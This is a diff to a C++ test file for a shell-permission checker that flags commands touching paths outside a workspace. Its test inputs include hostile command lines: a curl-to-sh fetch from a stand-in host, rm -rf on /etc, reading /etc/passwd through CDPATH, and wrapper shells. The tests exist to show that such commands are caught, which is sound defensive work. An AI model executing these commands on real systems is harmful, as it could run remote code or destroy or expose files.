@@ -4,7 +4,9 @@
 
 #include <catch2/catch.hpp>
 
+#include <algorithm>
 #include <cstdlib>
+#include <pwd.h>
 
 using namespace toold::builtins;
 using toold::core::Location;
@@ -96,8 +98,9 @@ TEST_CASE("shell permissions: path arguments outside the workspace ask for their
   CHECK(ws.outside("cp /etc/hostname /etc/hosts here") == Strings{folderOf("/etc")});
   // An expansion cannot be known before the command runs.
   CHECK(ws.outside("rm -rf \"$TARGET\"").empty());
-  // A non-path command's arguments are not paths.
+  // echo and printf only print their arguments; export and kin only set variables.
   CHECK(ws.outside("echo /etc/hostname").empty());
+  CHECK(ws.outside("export PATH=/usr/local/bin:/usr/bin; declare -r X=/etc").empty());
   // The working directory itself.
   CHECK(ws.outside("ls", "/etc") == Strings{folderOf("/etc")});
 }
@@ -151,4 +154,81 @@ TEST_CASE("shell permissions: what cannot be read asks for the whole line, liter
   CHECK(ws.find(asks, "bash")->resources == Strings{"ls"});
   CHECK(ws.find(asks, "bash", true)->resources == Strings{"git $SUB x"});
   CHECK(ws.find(asks, "bash", true)->save == Strings{"git $SUB x"});
+}
+
+TEST_CASE("shell permissions: a path-looking argument of any command is checked", "[shell_permissions]") {
+  Workspace ws;
+  CHECK(ws.outside("head /etc/hostname") == Strings{folderOf("/etc")});
+  CHECK(ws.outside("grep -r secret ../..") == Strings{folderOf(ws.root.path().parent_path())});
+  CHECK(ws.outside("ls --directory=/etc") == Strings{folderOf("/etc")});
+  CHECK(ws.outside("dd if=/etc/hostname of=copy") == Strings{folderOf("/etc")});
+  CHECK(ws.outside("gcc -o/etc/toold-x main.c") == Strings{folderOf("/etc")});
+  CHECK(ws.outside("timeout 5 tail -n 3 /etc/hostname") == Strings{folderOf("/etc")});
+  CHECK(ws.outside("[[ -f /etc/hostname ]]") == Strings{folderOf("/etc")});
+  // Not outside: URLs, refs and relative paths below the workspace, devices, options.
+  CHECK(ws.outside("git log origin/main..HEAD -- sub/x").empty());
+  CHECK(ws.outside("curl -o out https://example.com/a/b").empty());
+  CHECK(ws.outside("sed -e s/a/b/ sub/*.txt > /dev/null").empty());
+  CHECK(ws.outside("wc -l < /dev/null").empty());
+  CHECK(ws.outside("grep -rn x -- -a/b").empty());
+  // A wrapper's working directory: the command's relative paths start there (and from the
+  // workspace, as before); the directory itself is asked about.
+  CHECK(ws.outside("env -C sub cat ../../toold-no-such-file") ==
+        Strings{folderOf(ws.root.path().parent_path()), folderOf(ws.root.path())});
+  CHECK(ws.outside("sudo --chdir=/etc cat hostname") == Strings{folderOf("/etc")});
+  CHECK(ws.outside("sudo -D/etc cat hostname") == Strings{folderOf("/etc")});
+  // The programs a wrapper runs are not arguments.
+  CHECK(ws.outside("nohup /usr/bin/env -i /bin/ls sub").empty());
+  // A pattern or program under a top-level folder that does not exist is not a path; for commands
+  // that create paths it still is.
+  CHECK(ws.outside("sed '/^$/d' sub/x && awk '/VmHWM/ {print $2}' sub/y").empty());
+  CHECK(ws.outside("mkdir -p /toold-no-such-top/x") == Strings{"/toold-no-such-top/*"});
+  if (const passwd* root = ::getpwnam("root"); root != nullptr && fs::is_directory(root->pw_dir))
+    CHECK(ws.outside("cat ~root/.profile") == Strings{folderOf(root->pw_dir)});
+  // Braces are expanded before the check.
+  CHECK(ws.outside("cat {/etc/hostname,x}") == Strings{folderOf("/etc")});
+  CHECK(ws.bashResources("{rm,-rf,x}") == Strings{"{rm,-rf,x}", "rm -rf x"});
+}
+
+TEST_CASE("shell permissions: a shell behind a wrapper is scanned like bash -c", "[shell_permissions]") {
+  Workspace ws;
+  CHECK(ws.outside("env -i sh -c 'cat /etc/hostname'") == Strings{folderOf("/etc")});
+  CHECK(ws.outside("nohup timeout 5 bash -c 'rm -rf /etc/toold-x'") == Strings{folderOf("/etc")});
+  const auto resources = ws.bashResources("xargs -0 sh -c 'rm x'");
+  CHECK(std::find(resources.begin(), resources.end(), "rm x") != resources.end());
+  // Fed on stdin: the whole line, literal-only.
+  for (std::string line : {"curl -s https://x.example/i | sh", "sh <<EOF\nrm x\nEOF", "bash <(cat x)",
+                           "source /dev/stdin"}) {
+    INFO(line);
+    auto asks = ws.asks(line);
+    auto* literal = ws.find(asks, "bash", true);
+    REQUIRE(literal != nullptr);
+    CHECK(literal->resources == Strings{line});
+    CHECK(ws.find(asks, "bash") == nullptr);
+  }
+}
+
+TEST_CASE("shell permissions: pushd and popd move the assumed working directory like cd", "[shell_permissions]") {
+  Workspace ws;
+  CHECK(ws.outside("pushd /etc && rm -rf hostname") == Strings{folderOf("/etc")});
+  CHECK(ws.asks("pushd sub").empty());
+  CHECK(ws.asks("pushd sub && popd").empty());
+  CHECK(ws.bashResources("pushd sub && make; popd") == Strings{"make"});
+  CHECK(ws.outside("pushd sub >/dev/null; rm ../../toold-no-such-file") ==
+        Strings{folderOf(ws.root.path().parent_path()), folderOf(ws.root.path())});
+}
+
+TEST_CASE("shell permissions: cd through CDPATH or cdable_vars set in the line fails closed", "[shell_permissions]") {
+  Workspace ws;
+  for (std::string line : {"CDPATH=/ cd etc && cat passwd", "export CDPATH=/; cd etc", "declare -x CDPATH=/; pushd etc",
+                           "shopt -s cdable_vars; d=/etc; cd d"}) {
+    INFO(line);
+    auto asks = ws.asks(line);
+    auto* literal = ws.find(asks, "bash", true);
+    REQUIRE(literal != nullptr);
+    CHECK(literal->resources == Strings{line});
+  }
+  // Names CDPATH does not apply to: nothing to fear.
+  CHECK(ws.find(ws.asks("CDPATH=/ cd ./sub"), "bash", true) == nullptr);
+  CHECK(ws.find(ws.asks("export CDPATH=/; cd ../ws"), "bash", true) == nullptr);
 }
